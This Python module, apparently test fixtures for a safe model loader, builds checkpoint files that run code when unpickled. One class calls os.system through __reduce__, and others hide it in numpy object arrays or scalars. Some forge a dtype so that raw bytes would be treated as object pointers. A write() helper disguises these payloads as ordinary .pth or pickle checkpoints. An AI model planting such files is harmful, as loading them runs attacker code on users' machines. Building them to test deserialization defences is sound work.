"""Weight files that run code when they are unpickled."""

import os
import pickle

import numpy as np
import torch


class Evil:
    """Unpickled, it makes the file ``pwned`` in the working directory."""

    def __reduce__(self):
        return os.system, ("touch pwned",)


class ObjectArray:
    """numpy's own way to rebuild an array, of objects of which one is evil."""

    def __reduce__(self):
        kind = np.dtype("O")
        rebuild, arguments, _ = np.zeros(1).__reduce__()
        return rebuild, arguments, (1, (1,), kind, False, [Evil()])


class ObjectScalar:
    def __reduce__(self):
        rebuild, _ = np.float64(1).__reduce__()
        return rebuild, (np.dtype("O"), Evil())


class ForgedType:
    """The type of objects, its flags forged so that bytes would be taken for their addresses."""

    def __reduce__(self):
        return np.dtype, ("O", False, True), (3, "|", None, None, None, -1, -1, 0)


class ForgedArray:
    def __reduce__(self):
        rebuild, arguments, _ = np.zeros(1).__reduce__()
        return rebuild, arguments, (1, (1,), ForgedType(), False, b"\1" * 8)


def write(path, value, protocol=2):
    """A file that looks like a checkpoint but holds ``value``; of the kind that its name says."""
    content = {"model": {"x": value}, "__author__": "nobody", "iteration": 1}
    if str(path).endswith(".pth"):
        torch.save(content, path, pickle_protocol=protocol)
    else:
        with open(path, "wb") as f:
            pickle.dump(content, f, protocol)
    return str(path)
